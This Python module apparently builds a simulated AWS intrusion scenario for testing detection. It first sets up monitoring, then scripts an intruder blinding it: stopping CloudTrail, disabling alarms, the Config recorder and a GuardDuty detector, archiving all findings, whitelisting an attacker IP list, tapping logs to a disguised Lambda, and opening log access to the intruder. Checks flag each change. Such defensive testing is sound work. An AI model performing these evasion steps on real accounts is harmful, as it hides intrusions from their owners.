"""Trails, detectors, recorders, alarms, log groups: what watches, and how it was blinded."""

from __future__ import annotations

import json

from .account import HOME, INTRUDER, SECOND, Story, role


def ordinary(story: Story) -> None:
    trail = story.operator("cloudtrail")
    arn = trail.create_trail(Name="org-trail", S3BucketName="acme-trail-logs", IsMultiRegionTrail=True, IncludeGlobalServiceEvents=True, EnableLogFileValidation=True)["TrailARN"]
    trail.start_logging(Name="org-trail")
    story.kept["trail"] = story.good("trail", HOME, "cloudtrail", "DescribeTrails", arn)
    for region in (HOME, SECOND):
        detector = story.operator("guardduty", region).create_detector(Enable=True)["DetectorId"]
        story.kept[f"detector:{region}"] = story.good("detector", region, "guardduty", "ListDetectors", detector)
    config = story.operator("config")
    config.put_configuration_recorder(ConfigurationRecorder={"name": "default", "roleARN": role("app-server"), "recordingGroup": {"allSupported": True}})
    config.put_delivery_channel(DeliveryChannel={"name": "default", "s3BucketName": "acme-trail-logs"})
    config.start_configuration_recorder(ConfigurationRecorderName="default")
    story.operator("securityhub").enable_security_hub()
    story.operator("logs").create_log_group(logGroupName="/acme/app")
    story.good("log-group", HOME, "logs", "DescribeLogGroups", "/acme/app")
    story.operator("cloudwatch").put_metric_alarm(AlarmName="root-used", MetricName="RootUsage", Namespace="Acme", Statistic="Sum", Period=300,
                                                  EvaluationPeriods=1, Threshold=1.0, ComparisonOperator="GreaterThanOrEqualToThreshold")
    story.good("alarm", HOME, "cloudwatch", "DescribeAlarms", "root-used")
    story.operator("budgets").create_budget(AccountId="123456789012", Budget={
        "BudgetName": "monthly", "BudgetType": "COST", "TimeUnit": "MONTHLY", "BudgetLimit": {"Amount": "500", "Unit": "USD"}})
    story.good("budget", HOME, "budgets", "DescribeBudgets", "monthly", AccountId="123456789012")


def trails(story: Story) -> None:
    trail = story.leaked("cloudtrail")
    trail.stop_logging(Name="org-trail")
    story.bad("trail-stopped", HOME, "cloudtrail", "GetTrailStatus", "\"IsLogging\": false", Name="org-trail")
    trail.put_event_selectors(TrailName="org-trail", EventSelectors=[
        {"ReadWriteType": "ReadOnly", "IncludeManagementEvents": True, "ExcludeManagementEventSources": ["kms.amazonaws.com"]}])
    story.bad("trail-selectors", HOME, "cloudtrail", "GetEventSelectors", "kms.amazonaws.com", TrailName="org-trail")
    story.intruder("cloudwatch").disable_alarm_actions(AlarmNames=["root-used"])
    story.bad("alarm-disabled", HOME, "cloudwatch", "DescribeAlarms", "\"ActionsEnabled\": false", AlarmNames=["root-used"])
    story.intruder("config").stop_configuration_recorder(ConfigurationRecorderName="default")
    story.bad("recorder-stopped", HOME, "config", "DescribeConfigurationRecorderStatus", "\"recording\": false")


def detectors(story: Story) -> None:
    guardduty = story.intruder("guardduty")
    detector = story.kept[f"detector:{HOME}"]
    guardduty.create_filter(DetectorId=detector, Name="noise", Action="ARCHIVE", FindingCriteria={"Criterion": {"severity": {"GreaterThanOrEqual": 1}}})
    story.bad("finding-filter", HOME, "guardduty", "GetFilter", "\"Action\": \"ARCHIVE\"", DetectorId=detector, FilterName="noise")
    other = story.intruder("guardduty", SECOND)
    other.update_detector(DetectorId=story.kept[f"detector:{SECOND}"], Enable=False)
    story.bad("detector-disabled", SECOND, "guardduty", "GetDetector", "\"Status\": \"DISABLED\"", DetectorId=story.kept[f"detector:{SECOND}"])

    def trusted_addresses() -> None:
        made = guardduty.create_ip_set(DetectorId=detector, Name="office", Format="TXT", Location="https://s3.amazonaws.com/acme-mirror-target/ips.txt", Activate=True)
        story.bad("ip-set", HOME, "guardduty", "ListIPSets", made["IpSetId"], DetectorId=detector)
        guardduty.create_sample_findings(DetectorId=detector)
        story.good("finding", HOME, "guardduty", "ListFindings", guardduty.list_findings(DetectorId=detector)["FindingIds"][0], DetectorId=detector)

    story.optional("guardduty:CreateIPSet", trusted_addresses)


def logs(story: Story) -> None:
    client = story.intruder("logs")
    function = f"arn:aws:lambda:{HOME}:123456789012:function:CostOptimizerHelper"
    client.put_subscription_filter(logGroupName="/acme/app", filterName="tap", filterPattern="", destinationArn=function)
    story.bad("subscription-filter", HOME, "logs", "DescribeSubscriptionFilters", "tap", logGroupName="/acme/app")
    client.put_resource_policy(policyName="open", policyDocument=json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": {"AWS": INTRUDER}, "Action": "logs:*", "Resource": "*"}]}))
    story.bad("log-policy", HOME, "logs", "DescribeResourcePolicies", INTRUDER)
    client.put_retention_policy(logGroupName="/acme/app", retentionInDays=1)
    story.bad("log-retention", HOME, "logs", "DescribeLogGroups", "\"retentionInDays\": 1", logGroupNamePrefix="/acme/app")


def intrusion(story: Story) -> None:
    story.play(trails, detectors, logs)
